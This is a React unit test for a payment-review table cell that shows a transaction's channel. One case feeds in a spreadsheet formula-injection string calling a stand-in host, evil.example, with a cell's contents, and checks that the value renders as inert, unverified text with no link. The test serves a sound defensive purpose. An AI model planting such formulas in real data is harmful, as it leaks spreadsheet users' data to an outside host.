import { render, screen } from '@testing-library/react';
import type { Review } from '../api';
import { ChannelCell } from './Payments';

const review = (channel: string, channelAsSent?: string): Review => ({
  txnId: 'T', refNo: '', kind: 'unknown_txn', amount: 1, asked: 0, currency: 'PHP', channel, channelAsSent, orderNo: '', detail: '', at: '', resolution: null,
});

describe('a payment kept for review, its channel', () => {
  it('shows a known channel as it is', () => {
    render(<ChannelCell row={review('GCSH')} />);
    expect(screen.getByText('GCSH')).toBeTruthy();
    expect(screen.queryByText('unverified, as sent')).toBeNull();
  });
  it('marks what a postback sent outside the digest as unverified text', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"GCash")';
    render(<ChannelCell row={review('', evil)} />);
    expect(screen.getByText('unverified, as sent')).toBeTruthy();
    expect(screen.getByText(evil).tagName).toBe('CODE');
    expect(screen.queryByRole('link')).toBeNull();
  });
});
